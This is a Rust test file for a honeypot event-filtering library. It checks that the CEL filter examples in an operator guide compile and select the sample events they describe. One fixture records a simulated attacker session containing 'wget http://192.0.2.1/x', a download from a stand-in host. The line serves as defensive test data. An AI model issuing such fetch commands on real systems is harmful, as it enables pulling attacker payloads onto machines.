//! The examples of the guide for operators.

use decnet_core::event::Event;
use decnet_core::severity::SeverityTable;
use decnet_core::time::UnixMicros;
use decnet_filter::{Budget, FUNCTIONS, Filter, FilterInput, MACROS};

const GUIDE: &str = include_str!("../../../../docs/filters.md");

/// Events as DECNET publishes them, and the beginning of an example that accepts each.
const EVENTS: [(&str, &str, &str); 12] = [
    ("decky.web-01.traffic", r#"{"service":"ssh","src_ip":"192.0.2.1"}"#, "payload.service =="),
    ("credential.captured", "{}", "severity in"),
    ("attacker.observed", r#"{"attacker_ip":"192.0.2.1"}"#, "!cidr"),
    ("credential.captured", r#"{"service":"ssh","decky":"db-01"}"#, "topic == \"credential.captured\""),
    ("credential.reuse.detected", r#"{"target_count":3}"#, "topic == \"credential.reuse"),
    (
        "attacker.session.ended",
        r#"{"commands":[{"command_text":"ls"},{"command_text":"wget http://192.0.2.1/x"}],"duration_s":3.5}"#,
        "topic == \"attacker.session.ended\"\n",
    ),
    (
        "attacker.session.ended",
        r#"{"commands":[],"duration_s":601.0}"#,
        "topic == \"attacker.session.ended\" && (p",
    ),
    ("canary.9f2c.triggered", r#"{"user_agent":"Mozilla/5.0"}"#, "topic.startsWith(\"canary."),
    ("ttp.tagged", r#"{"techniques_added":["T1003","T1110.001"]}"#, "topic == \"ttp.tagged\""),
    ("attacker.intel.enriched", r#"{"abuseipdb_score":80}"#, "topic == \"attacker.intel"),
    ("email.received", r#"{"attachment_extensions":["pdf","ISO"]}"#, "topic == \"email.received\""),
    ("x", r#"{"user":"root"}"#, "has(payload.user)"),
];

/// Returns the contents of the code blocks in CEL.
fn examples() -> impl Iterator<Item = &'static str> {
    GUIDE.split("```cel\n").skip(1).filter_map(|block| block.split("\n```").next())
}

#[test]
fn every_example_compiles() {
    assert!(examples().count() >= EVENTS.len());
    for example in examples() {
        if let Err(error) = Filter::compile(example) {
            panic!("{example}: {error}");
        }
    }
}

#[test]
fn examples_select_the_events_that_they_describe() {
    let harmless = Event::new("e", "system.log", "log", UnixMicros(0), "{}").unwrap();
    for (topic, payload, beginning) in EVENTS {
        let source = examples().find(|example| example.starts_with(beginning)).expect(beginning);
        let filter = Filter::compile(source).unwrap();
        let accepts = |event: &Event| {
            let severity = SeverityTable::default().of(&event.topic);
            filter.evaluate(&FilterInput::new(event, severity), &mut Budget::default())
        };
        let event = Event::new("e", topic, "t", UnixMicros(0), payload).unwrap();
        assert_eq!(accepts(&event), Ok(true), "{source}");
        assert_ne!(accepts(&harmless), Ok(true), "{source}");
    }
}

#[test]
fn every_name_is_in_the_guide() {
    for (name, _) in FUNCTIONS.iter().chain(&MACROS) {
        assert!(GUIDE.contains(&format!("{name}(")), "{name}");
    }
}
